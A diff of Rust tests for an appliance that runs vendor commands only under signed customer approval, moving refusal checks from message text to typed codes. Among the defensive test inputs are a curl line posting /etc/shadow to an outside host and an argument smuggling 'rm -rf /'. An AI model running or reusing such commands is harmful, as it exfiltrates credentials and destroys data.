@@ -14,14 +14,24 @@ use airlock_core::{ApplianceId, EnvironmentId, TenantId};
 use airlock_proto::gateway::{OperationAck, OperationAckKind};
 use rcgen::{CertificateParams, Issuer, KeyPair};
 
+use airlock_core::grant::DenyCode;
+use airlock_core::operation::AckCode;
+use airlock_proto::convert;
 use airlock_testkit::op_id;
 
 use super::*;
 use crate::audit_log::AuditLog;
 
 /// The control plane's acknowledgement of `id`; `error` empty when it took it.
-fn ack(id: OperationId, kind: OperationAckKind, error: &str) -> OperationAck {
-    OperationAck { request_id: id.to_string(), kind: kind as i32, error: error.into(), code: 0 }
+/// The control plane's acknowledgement of `id`: what it did (`code`), and why (`error`, for people).
+fn ack(id: OperationId, kind: OperationAckKind, code: AckCode, error: &str) -> OperationAck {
+    let code = convert::ack_code_to_wire(code) as i32;
+    OperationAck { request_id: id.to_string(), kind: kind as i32, error: error.into(), code }
+}
+
+/// The control plane stored `id`'s result or release.
+fn stored(id: OperationId, kind: OperationAckKind) -> OperationAck {
+    ack(id, kind, AckCode::Stored, "")
 }
 use crate::state_dir::Enrolment;
 
@@ -292,9 +302,28 @@ impl Fx {
     }
 }
 
-fn assert_refused(r: &ResultMsg, expect: &str) {
+/// The request was refused for good, with `code`, here and on the wire.
+fn assert_refused(r: &ResultMsg, code: RefusalCode) {
     assert_eq!(r.outcome, Outcome::Refused, "{r:?}");
-    assert!(r.reason.contains(expect), "expected `{expect}` in `{}`", r.reason);
+    assert_code(r, code);
+}
+
+/// The customer's policy (or a built-in rule) refused the request, by the check `deny`.
+fn assert_denied(r: &ResultMsg, deny: DenyCode) {
+    assert_refused(r, RefusalCode::Denied);
+    assert_eq!(r.refusal.as_ref().and_then(|f| f.deny), Some(deny), "{r:?}");
+    assert_eq!(r.to_proto().deny_code, convert::deny_code_to_wire(deny) as i32);
+}
+
+/// The request is not refused for good: it waits for authority, with `code`.
+fn assert_awaiting(r: &ResultMsg, code: RefusalCode) {
+    assert_eq!(r.outcome, Outcome::AwaitingApproval, "{r:?}");
+    assert_code(r, code);
+}
+
+fn assert_code(r: &ResultMsg, code: RefusalCode) {
+    assert_eq!(r.refusal.as_ref().map(|f| f.code), Some(code), "{r:?}");
+    assert_eq!(convert::refusal_code_from_wire(r.to_proto().refusal_code), Ok(code));
 }
 
 fn all_files(dir: &Path) -> Vec<PathBuf> {
@@ -359,8 +388,8 @@ async fn approved_request_runs_signed_chained_and_its_output_is_sealed() {
     assert_eq!(e2.previous_manifest_sha256, Some(e.manifest_sha256()));
     // Results wait in the outbox until acknowledged.
     assert_eq!(fx.control.ops.pending().unwrap().len(), 2);
-    let _ = fx.control.on_ack(&ack(op_id(1), OperationAckKind::Result, ""));
-    let _ = fx.control.on_ack(&ack(op_id(2), OperationAckKind::Result, "refused for the test"));
+    let _ = fx.control.on_ack(&stored(op_id(1), OperationAckKind::Result));
+    let _ = fx.control.on_ack(&ack(op_id(2), OperationAckKind::Result, AckCode::Refused, "refused for the test"));
     assert!(fx.control.ops.pending().unwrap().is_empty());
     assert_eq!(fx.audited("operation.ack_refused").len(), 1);
 }
@@ -376,23 +405,23 @@ async fn forged_or_misdirected_requests_are_refused_and_nothing_runs() {
     i.request_envelope_json =
         sign_x509(REQUEST_PAYLOAD_TYPE, serde_json::to_vec(&stmt).unwrap(), &rkey, &rcert).to_json();
     i.control_plane_certificate_pem = rcert;
-    assert_refused(&fx.send(i).await, "request signature does not verify");
+    assert_refused(&fx.send(i).await, RefusalCode::Unauthenticated);
     // Signed by a certificate of our CA that is not the control plane's operations identity.
     let (okey, ocert) = leaf(&fx.issuer, &fx.identity.uri());
     let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, &fx.grant(&stmt));
     i.request_envelope_json =
         sign_x509(REQUEST_PAYLOAD_TYPE, serde_json::to_vec(&stmt).unwrap(), &okey, &ocert).to_json();
     i.control_plane_certificate_pem = ocert;
-    assert_refused(&fx.send(i).await, "operations identity");
+    assert_refused(&fx.send(i).await, RefusalCode::Unauthenticated);
     // A payload edited after signing.
     let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, &fx.grant(&stmt));
     let mut env = Envelope::from_json(i.request_envelope_json.as_bytes()).unwrap();
     env.payload = serde_json::to_vec(&fx.simple(op_id(22), "web")).unwrap();
     i.request_envelope_json = env.to_json();
-    assert_refused(&fx.send(i).await, "request signature does not verify");
+    assert_refused(&fx.send(i).await, RefusalCode::Unauthenticated);
     let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, "");
     i.request_envelope_json = "{not json".into();
-    assert_refused(&fx.send(i).await, "malformed");
+    assert_refused(&fx.send(i).await, RefusalCode::Malformed);
     assert!(!fx.ran(op_id(22)));
     assert!(fx.control.ops.record(op_id(22)).unwrap().is_none(), "an unauthenticated refusal is not stored");
     assert!(!fx.control.nonces.is_used(&format!("nonce-{}", op_id(22))));
@@ -402,7 +431,7 @@ async fn forged_or_misdirected_requests_are_refused_and_nothing_runs() {
     let mut other = fx.simple(op_id(29), "api");
     other.request.appliance = ApplianceId::from_random([8; 16]);
     let r = fx.run(&other, &fx.grant(&other)).await;
-    assert_refused(&r, "another appliance");
+    assert_refused(&r, RefusalCode::Misbound);
     assert!(!fx.ran(op_id(29)));
 }
 
@@ -414,19 +443,19 @@ async fn command_must_be_exactly_what_the_template_renders() {
     stmt.command.script = "curl -d @/etc/shadow https://vendor.example\n".into();
     stmt.request.command_sha256 = stmt.command.sha256();
     let r = fx.run(&stmt, &fx.grant(&stmt)).await;
-    assert_refused(&r, "not what the template renders");
+    assert_refused(&r, RefusalCode::Misbound);
     // The right command, but a digest that is not its own.
     let mut stmt = fx.simple(op_id(18), "api");
     stmt.request.command_sha256 = "00".repeat(32);
-    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, "command_sha256");
+    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, RefusalCode::Misbound);
     // Data tags the customer was not shown.
     let mut stmt = fx.simple(op_id(35), "api");
     stmt.request.data_tags.clear();
-    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, "data tags differ");
+    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, RefusalCode::Misbound);
     // A value the template's pattern refuses.
     let mut stmt = fx.simple(op_id(37), "api");
     stmt.request.args = vars("api; rm -rf /");
-    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, "do not render");
+    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, RefusalCode::Misbound);
     // A vendor template named like one of the appliance's own probes, labelled Observe, would
     // otherwise run without any customer signature.
     let probe = MANIFEST.replace("echo-service", "status").replace("\"operate\"", "\"observe\"");
@@ -437,7 +466,7 @@ async fn command_must_be_exactly_what_the_template_renders() {
     stmt.command.template = "status".into();
     stmt.request.command_sha256 = stmt.command.sha256();
     let r = fx.send(fx.instruction(&stmt, &probe, SCRIPT, "")).await;
-    assert_refused(&r, "built-in probe");
+    assert_refused(&r, RefusalCode::Misbound);
     for id in [op_id(34), op_id(18), op_id(35), op_id(37), op_id(31)] {
         assert!(!fx.ran(id), "{id} ran");
         assert_eq!(fx.control.ops.record(id).unwrap().unwrap().state, OpState::Refused);
@@ -449,40 +478,40 @@ async fn approvals_that_do_not_hold_are_refused() {
     let fx = Fx::new(ALL_PHASES);
     let stmt = fx.simple(op_id(11), "api");
     // Signed by a key that is not pinned.
-    assert_refused(&fx.run(&stmt, &fx.grant_with(&stmt, 7, |_| {})).await, "does not verify");
+    assert_refused(&fx.run(&stmt, &fx.grant_with(&stmt, 7, |_| {})).await, RefusalCode::ApprovalInvalid);
     // An approval of another request.
     let other = fx.simple(op_id(14), "api");
     let stmt = fx.simple(op_id(15), "api");
-    assert_refused(&fx.run(&stmt, &fx.grant(&other)).await, "the grant is for another request");
+    assert_denied(&fx.run(&stmt, &fx.grant(&other)).await, DenyCode::GrantForAnotherRequest);
     // Expired, and not yet valid.
     let stmt = fx.simple(op_id(16), "api");
     let expired = fx.grant_with(&stmt, 1, |g| {
         g.not_before = Timestamp::from_unix_millis(NOW - 2 * HOUR);
         g.not_after = Timestamp::from_unix_millis(NOW - 1);
     });
-    assert_refused(&fx.run(&stmt, &expired).await, "expired");
+    assert_denied(&fx.run(&stmt, &expired).await, DenyCode::GrantExpired);
     let stmt = fx.simple(op_id(19), "api");
     let future = fx.grant_with(&stmt, 1, |g| {
         g.not_before = Timestamp::from_unix_millis(NOW + MINUTE);
         g.not_after = Timestamp::from_unix_millis(NOW + HOUR);
     });
-    assert_eq!(fx.run(&stmt, &future).await.outcome, Outcome::AwaitingApproval);
+    assert_awaiting(&fx.run(&stmt, &future).await, RefusalCode::ApprovalNotYetValid);
     // Garbage in place of an approval.
     let stmt = fx.simple(op_id(21), "api");
-    assert_refused(&fx.run(&stmt, "{\"payload\":1}").await, "approval is malformed");
+    assert_refused(&fx.run(&stmt, "{\"payload\":1}").await, RefusalCode::Malformed);
     for id in [op_id(11), op_id(15), op_id(16), op_id(19), op_id(21)] {
         assert!(!fx.ran(id), "{id} ran");
     }
     // The customer said no.
     let stmt = fx.simple(op_id(23), "api");
     let denial = fx.grant_with(&stmt, 1, |g| g.decision = ApprovalDecision::Deny);
-    assert_refused(&fx.run(&stmt, &denial).await, "the customer denied this request");
+    assert_refused(&fx.run(&stmt, &denial).await, RefusalCode::CustomerDenied);
     assert_eq!(fx.audited("operation.denied_by_customer").len(), 1);
     assert!(!fx.ran(op_id(23)));
     // No approval yet: awaiting, nothing stored, and it runs once the approval comes.
     let stmt = fx.simple(op_id(24), "api");
     let r = fx.run(&stmt, "").await;
-    assert_eq!(r.outcome, Outcome::AwaitingApproval, "{r:?}");
+    assert_awaiting(&r, RefusalCode::AwaitingAuthority);
     assert!(fx.control.ops.record(op_id(24)).unwrap().is_none());
     assert_eq!(fx.run(&stmt, &fx.grant(&stmt)).await.outcome, Outcome::Executed);
 }
@@ -496,15 +525,17 @@ async fn an_approval_not_valid_yet_awaits_and_runs_once_it_is() {
         g.not_after = Timestamp::from_unix_millis(NOW + HOUR);
     });
     let r = fx.run(&stmt, &early).await;
-    assert_eq!(r.outcome, Outcome::AwaitingApproval, "{r:?}");
-    assert!(r.reason.contains("not valid until"), "{}", r.reason);
+    assert_awaiting(&r, RefusalCode::ApprovalNotYetValid);
+    // When it becomes valid travels as a time, not in the sentence.
+    assert_eq!(r.refusal.as_ref().and_then(|f| f.valid_from), Some(Timestamp::from_unix_millis(NOW + MINUTE)));
+    assert_eq!(r.to_proto().valid_from_unix_ms, NOW + MINUTE);
     // Nothing final is stored, nothing ran, nothing waits in the outbox; the wait is audited.
     assert!(fx.control.ops.record(op_id(20)).unwrap().is_none());
     assert!(!fx.ran(op_id(20)));
     assert!(fx.control.ops.pending().unwrap().is_empty());
     let awaiting = fx.audited("operation.awaiting_approval");
     assert_eq!(awaiting.len(), 1);
-    assert!(awaiting[0]["detail"]["reason"].as_str().unwrap().contains("not valid until"));
+    assert_eq!(awaiting[0]["detail"]["request_id"], op_id(20).to_string());
     // The control plane sends it again once the approval holds: it runs.
     fx.clock.store(NOW + 2 * MINUTE, Ordering::SeqCst);
     assert_eq!(fx.run(&stmt, &early).await.outcome, Outcome::Executed);
@@ -517,10 +548,10 @@ async fn a_nonce_is_spent_once_even_across_restarts() {
     let nonce = |g: &mut GrantBody| g.nonce = "same-nonce".into();
     assert_eq!(fx.run(&first, &fx.grant_with(&first, 1, nonce)).await.outcome, Outcome::Executed);
     let second = fx.simple(op_id(2), "api");
-    assert_refused(&fx.run(&second, &fx.grant_with(&second, 1, nonce)).await, "already used");
+    assert_denied(&fx.run(&second, &fx.grant_with(&second, 1, nonce)).await, DenyCode::NonceReplayed);
     fx.restart();
     let third = fx.simple(op_id(3), "api");
-    assert_refused(&fx.run(&third, &fx.grant_with(&third, 1, nonce)).await, "already used");
+    assert_denied(&fx.run(&third, &fx.grant_with(&third, 1, nonce)).await, DenyCode::NonceReplayed);
     assert!(!fx.ran(op_id(2)) && !fx.ran(op_id(3)));
     // After the restart, a finished request is still answered from its record.
     assert_eq!(fx.run(&first, &fx.grant_with(&first, 1, nonce)).await.outcome, Outcome::Executed);
@@ -533,12 +564,12 @@ async fn deny_rules_and_disabled_phases_beat_a_valid_approval() {
         "{ALL_PHASES}[[deny]]\nid = \"never-db\"\nkind = \"echo-service\"\nargs = {{ service = \"db\" }}\n"
     ));
     let stmt = fx.simple(op_id(17), "db");
-    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, "denied by customer rule `never-db`");
+    assert_denied(&fx.run(&stmt, &fx.grant(&stmt)).await, DenyCode::DeniedByRule);
     let denied = fx.audited("operation.denied");
     assert_eq!(denied[0]["detail"]["rule"], "never-db");
     fx.control.set_phase(Phase::Operate, false).unwrap();
     let stmt = fx.simple(op_id(28), "api");
-    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, "has not enabled the Operate phase");
+    assert_denied(&fx.run(&stmt, &fx.grant(&stmt)).await, DenyCode::PhaseDisabled);
     assert!(!fx.ran(op_id(17)) && !fx.ran(op_id(28)));
     assert!(!fx.control.nonces.is_used(&format!("nonce-{}", op_id(28))), "a refused grant's nonce is not spent");
 }
@@ -556,7 +587,8 @@ async fn pre_approval_runs_are_counted_across_restarts_until_spent() {
     assert_eq!(fx.run(&fx.simple(op_id(2), "api"), "").await.outcome, Outcome::Executed);
     fx.restart();
     let r = fx.run(&fx.simple(op_id(3), "api"), "").await;
-    assert_eq!(r.outcome, Outcome::AwaitingApproval);
+    assert_awaiting(&r, RefusalCode::AwaitingAuthority);
+    // Why each pre-approval did not apply is for the customer reading the refusal.
     assert!(r.reason.contains("runs are spent"), "{}", r.reason);
     assert!(!fx.ran(op_id(3)));
     // Commands only: the output waits for the customer's release.
@@ -582,7 +614,8 @@ async fn pre_approval_constraints_and_revocation_hold() {
     });
     fx.control.pre_approval_add(&env).unwrap();
     let r = fx.run(&fx.simple(op_id(17), "db"), "").await;
-    assert_eq!(r.outcome, Outcome::AwaitingApproval);
+    assert_awaiting(&r, RefusalCode::AwaitingAuthority);
+    // Why each pre-approval did not apply is for the customer reading the refusal.
     assert!(r.reason.contains("`service` does not meet its constraint"), "{}", r.reason);
     assert!(!fx.ran(op_id(17)));
     fx.control.pre_approval_revoke("routine").unwrap();
@@ -1138,11 +1171,43 @@ async fn a_release_the_control_plane_cannot_take_yet_stays_in_the_outbox() {
     let stmt = fx.simple(op_id(1), "api");
     fx.run(&stmt, &fx.grant(&stmt)).await;
     fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
-    let _ = fx.control.on_ack(&ack(op_id(1), OperationAckKind::Release, "no execution recorded for op_1 yet"));
+    let _ = fx.control.on_ack(&ack(op_id(1), OperationAckKind::Release, AckCode::Retry, "no result stored yet"));
     assert_eq!(kinds(&fx.control.ops.pending().unwrap()), [("result", op_id(1)), ("release", op_id(1))]);
-    let _ = fx.control.on_ack(&ack(op_id(1), OperationAckKind::Result, ""));
-    let _ = fx.control.on_ack(&ack(op_id(1), OperationAckKind::Release, ""));
+    let _ = fx.control.on_ack(&stored(op_id(1), OperationAckKind::Result));
+    let _ = fx.control.on_ack(&stored(op_id(1), OperationAckKind::Release));
     assert!(fx.control.ops.pending().unwrap().is_empty());
+}
+
+#[tokio::test]
+async fn a_final_release_refusal_and_a_retryable_one_are_told_apart_by_code_not_text() {
+    let fx = Fx::new(ALL_PHASES);
+    let stmt = fx.simple(op_id(1), "api");
+    fx.run(&stmt, &fx.grant(&stmt)).await;
+    let _ = fx.control.on_ack(&stored(op_id(1), OperationAckKind::Result));
+    fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
+    // The same words, and the words the final refusal of a release on the control plane uses.
+    let words = "operation has no execution whose output could be released";
+    // Retry: kept, to go again after its result; nothing is audited as refused.
+    let retry = ack(op_id(1), OperationAckKind::Release, AckCode::Retry, words);
+    assert!(fx.control.on_ack(&retry).is_none());
+    assert_eq!(kinds(&fx.control.ops.pending().unwrap()), [("release", op_id(1))]);
+    assert!(fx.audited("operation.ack_refused").is_empty());
+    assert!(fx.control.ops.parked_releases().unwrap().is_empty());
+    // No code, or one this build does not know: never taken as stored; kept, and audited.
+    for code in [0, 99] {
+        let mut unknown = ack(op_id(1), OperationAckKind::Release, AckCode::Stored, words);
+        unknown.code = code;
+        assert!(fx.control.on_ack(&unknown).is_none());
+        assert_eq!(kinds(&fx.control.ops.pending().unwrap()), [("release", op_id(1))]);
+    }
+    assert_eq!(fx.audited("operation.error").len(), 2);
+    // Refused: final. Out of the outbox, kept in `parked/`, audited.
+    let refused = ack(op_id(1), OperationAckKind::Release, AckCode::Refused, words);
+    assert!(fx.control.on_ack(&refused).is_none());
+    assert!(fx.control.ops.pending().unwrap().is_empty());
+    assert_eq!(fx.control.ops.parked_releases().unwrap(), [op_id(1)]);
+    assert_eq!(fx.audited("operation.ack_refused").len(), 1);
+    assert_eq!(fx.audited("operation.release_parked").len(), 1);
 }
 
 #[tokio::test]
@@ -1154,10 +1219,10 @@ async fn a_release_waiting_for_its_result_goes_as_soon_as_the_result_is_acknowle
     }
     fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
     // op_2 has no release waiting: nothing follows its result.
-    assert!(fx.control.on_ack(&ack(op_id(2), OperationAckKind::Result, "")).is_none());
+    assert!(fx.control.on_ack(&stored(op_id(2), OperationAckKind::Result)).is_none());
     // op_1's release was sent before its result was stored (the control plane does not answer
     // such a release): storing the result sends it at once, not at the next reconnect.
-    let next = fx.control.on_ack(&ack(op_id(1), OperationAckKind::Result, "")).expect("the waiting release");
+    let next = fx.control.on_ack(&stored(op_id(1), OperationAckKind::Result)).expect("the waiting release");
     assert_eq!(kinds(std::slice::from_ref(&next)), [("release", op_id(1))]);
     // It goes on the current stream.
     let (tx, mut rx) = tokio::sync::mpsc::channel(4);
@@ -1166,8 +1231,8 @@ async fn a_release_waiting_for_its_result_goes_as_soon_as_the_result_is_acknowle
     fx.control.send(next).await;
     assert_eq!(kinds(&[rx.recv().await.unwrap()]), [("release", op_id(1))]);
     // Acknowledged: gone, and a second result ack sends nothing.
-    assert!(fx.control.on_ack(&ack(op_id(1), OperationAckKind::Release, "")).is_none());
-    assert!(fx.control.on_ack(&ack(op_id(1), OperationAckKind::Result, "")).is_none());
+    assert!(fx.control.on_ack(&stored(op_id(1), OperationAckKind::Release)).is_none());
+    assert!(fx.control.on_ack(&stored(op_id(1), OperationAckKind::Result)).is_none());
     assert!(fx.control.ops.pending().unwrap().is_empty());
 }
 
@@ -1179,7 +1244,9 @@ async fn a_release_whose_result_is_refused_for_good_is_parked_not_resent() {
         fx.run(&stmt, &fx.grant(&stmt)).await;
     }
     fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
-    let refused = |id: OperationId| ack(id, OperationAckKind::Result, "the execution is not signed by this appliance");
+    let refused = |id: OperationId| {
+        ack(id, OperationAckKind::Result, AckCode::Refused, "the execution is not signed by this appliance")
+    };
     assert!(fx.control.on_ack(&refused(op_id(1))).is_none());
     // Neither the result nor its release is resent at the next reconnect ...
     assert_eq!(kinds(&fx.control.ops.pending().unwrap()), [("result", op_id(2))]);
